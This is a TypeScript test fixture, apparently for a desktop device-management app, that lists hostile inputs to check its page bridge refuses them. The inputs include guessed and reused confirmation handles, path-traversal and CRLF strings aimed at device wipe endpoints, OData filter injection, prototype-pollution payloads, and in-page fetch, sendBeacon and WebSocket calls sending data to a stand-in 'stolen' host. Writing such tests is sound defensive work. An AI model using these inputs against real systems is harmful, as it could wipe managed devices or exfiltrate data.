/** What an attacker's page knows: ids on its screen, cards that were dropped or used, and where things are. */
export interface Loot {
  readonly device: string;
  readonly other: string;
  readonly discarded: string;
  readonly spent: string;
  readonly request: string;
  readonly origin: string;
  readonly elsewhere: string;
}

export interface Attack {
  readonly name: string;
  readonly group: string;
  readonly call: string;
  readonly inputs: readonly unknown[];
}

const card = (handle: unknown, more: object = {}): unknown => ({
  handle,
  ticket: '',
  reason: '',
  override: true,
  ...more,
});
const twenty = (input: unknown): readonly unknown[] => Array.from({ length: 20 }, () => input);

const handles = ({ device, request, discarded, spent }: Loot): readonly unknown[] => [
  '',
  '0',
  '0'.repeat(48),
  device,
  request,
  discarded,
  discarded.toUpperCase(),
  ` ${discarded}`,
  `${discarded}\u0000`,
  spent,
  `${spent} `,
  '__proto__',
  'constructor',
  'toString',
  '*',
  'a'.repeat(100_000),
  7,
  null,
  true,
  [discarded],
  { handle: discarded },
];

const paths = ({ device }: Loot): readonly string[] => [
  `${device}/wipe`,
  `${device}/microsoft.graph.wipe`,
  `${device}/retire`,
  `../managedDevices/${device}/wipe`,
  `${device}%2Fwipe`,
  `${device}?x=/wipe`,
  `${device}#`,
  `..`,
  `.`,
  `$batch`,
  `${device}/requestRemoteAssistance`,
  `${device}\\..\\wipe`,
  `${device}\r\nX: y`,
  'https://example.com/',
  `//example.com/${device}`,
];

/** Fifty scripts that use the whole bridge and no confirmed card of their own. */
export function attacks(loot: Loot): readonly Attack[] {
  const { device, other, spent, request, elsewhere } = loot;
  const sends = handles(loot).map((handle, at): Attack => ({
    name: `send with guessed handle ${String(at)}`,
    group: 'requests',
    call: 'send',
    inputs: [card(handle)],
  }));
  const reads = paths(loot).flatMap((path, at): Attack[] => [
    { name: `prepare for path ${String(at)}`, group: 'requests', call: 'prepare', inputs: [{ deviceId: path }] },
  ]);
  const profile = {
    name: 'Contoso',
    tenantId: '00000000-0000-4000-8000-000000000001',
    clientId: '00000000-0000-4000-8000-000000000002',
  };
  return [
    ...sends,
    ...reads,
    { name: 'used card, twenty at once', group: 'requests', call: 'send', inputs: twenty(card(spent)) },
    {
      name: 'used card for another device',
      group: 'requests',
      call: 'send',
      inputs: [card(spent, { deviceId: other, subject: { deviceId: other } })],
    },
    {
      name: 'decide what was never unknown',
      group: 'requests',
      call: 'decide',
      inputs: [
        { requestId: request, decision: 'not-sent' },
        { requestId: request, decision: 'sent' },
      ],
    },
    {
      name: 'open other links',
      group: 'requests',
      call: 'open',
      inputs: [{ requestId: request, url: 'https://example.com' }, { requestId: device }],
    },
    { name: 'read by path', group: 'devices', call: 'read', inputs: paths(loot).map((deviceId) => ({ deviceId })) },
    {
      name: 'devices of a path',
      group: 'devices',
      call: 'ofPerson',
      inputs: paths(loot).map((userId) => ({ userId })),
    },
    { name: 'more devices of a path', group: 'devices', call: 'more', inputs: paths(loot).map((more) => ({ more })) },
    {
      name: 'devices of an app path',
      group: 'devices',
      call: 'ofApp',
      inputs: paths(loot).map((appId) => ({ appId })),
    },
    {
      name: 'search with filter injection',
      group: 'devices',
      call: 'search',
      inputs: ["' or 1 eq 1 or '", "x')/wipe", '$batch', '\u0000'].map((text) => ({ text })),
    },
    {
      name: 'show a card',
      group: 'app',
      call: 'open',
      inputs: twenty({ kind: 'device', by: 'id', value: device, card: true }),
    },
    {
      name: 'preferences as code',
      group: 'settings',
      call: 'change',
      inputs: [{ shortcut: '__proto__' }, { language: 'evil' }, JSON.parse('{"__proto__":{"retentionDays":0}}')],
    },
    { name: 'endless input', group: 'app', call: 'reportPageError', inputs: [{ message: 'x'.repeat(2_000_000) }] },
    {
      name: 'profile of a foreign service',
      group: 'settings',
      call: 'importProfile',
      inputs: [{ text: JSON.stringify({ ...profile, cloud: { authority: elsewhere, graph: elsewhere } }) }],
    },
  ];
}

/** Script text that runs in the page, with what it must answer in the end. */
export const scripts = ({ origin, device, elsewhere }: Loot): readonly string[] => [
  `fetch(${JSON.stringify(`${origin}/v1.0/deviceManagement/managedDevices/${device}/requestRemoteAssistance`)}, { method: 'POST' }).then(() => 'out', () => 'refused')`,
  `fetch(${JSON.stringify(`${elsewhere}/stolen`)}).then(() => 'out', () => 'refused')`,
  `Promise.resolve(navigator.sendBeacon(${JSON.stringify(`${elsewhere}/stolen`)}, 'x')).then(() => 'refused', () => 'refused')`,
  `new Promise((settle) => { try { const socket = new WebSocket(${JSON.stringify(elsewhere.replace('https', 'wss'))}); socket.onopen = () => settle('out'); socket.onerror = () => settle('refused'); } catch { settle('refused'); } })`,
  `Promise.resolve().then(() => { deskside.requests.send = () => 'mine'; return 'refused'; }).catch(() => 'refused')`,
  `Promise.resolve().then(() => typeof require + typeof process + typeof globalThis.ipcRenderer === 'undefinedundefinedundefined' ? 'refused' : 'out')`,
  `Promise.resolve().then(() => { Object.prototype.override = true; Object.prototype.handle = 'x'; return deskside.requests.send({}); }).then((answer) => { delete Object.prototype.override; delete Object.prototype.handle; return answer.ok ? 'out' : 'refused'; })`,
];
